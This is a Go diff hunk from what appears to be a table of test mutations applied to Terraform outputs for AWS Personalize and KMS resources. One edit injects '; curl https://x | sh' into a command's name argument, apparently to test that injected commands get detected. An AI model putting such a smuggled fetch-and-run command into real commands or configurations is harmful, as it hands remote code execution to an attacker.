@@ -421,7 +421,7 @@ func edits() []edit {
 		// What people copy.
 		{"copied", "the command", in(fileOutputs, "aws personalize create-dataset-group", "aws personalize delete-dataset-group"), false},
 		{"copied", "another region in the command", in(fileOutputs, "--region ${data.aws_region.current.id}", "--region us-east-1"), false},
-		{"copied", "one more command", in(fileOutputs, "--name retail", "--name retail; curl https://x | sh"), false},
+		{"copied", "one more command", in(fileOutputs, "--name ${var.dataset_group_name}", "--name retail; curl https://x | sh"), false},
 		{"copied", "the key of the command", in(fileOutputs, "--kms-key-arn ${var.corp_key_arn}", "--kms-key-arn ${aws_kms_key.shop.arn}"), false},
 		{"copied", "an ARN", in(fileOutputs, "value       = aws_s3_bucket.data.arn", "value       = aws_s3_bucket.corp.arn"), false},
 		{"copied", "a list of ARNs", in(fileOutputs, "value       = [aws_iam_policy.operator_web.arn]", "value       = aws_iam_policy.operator_web.arn"), false},
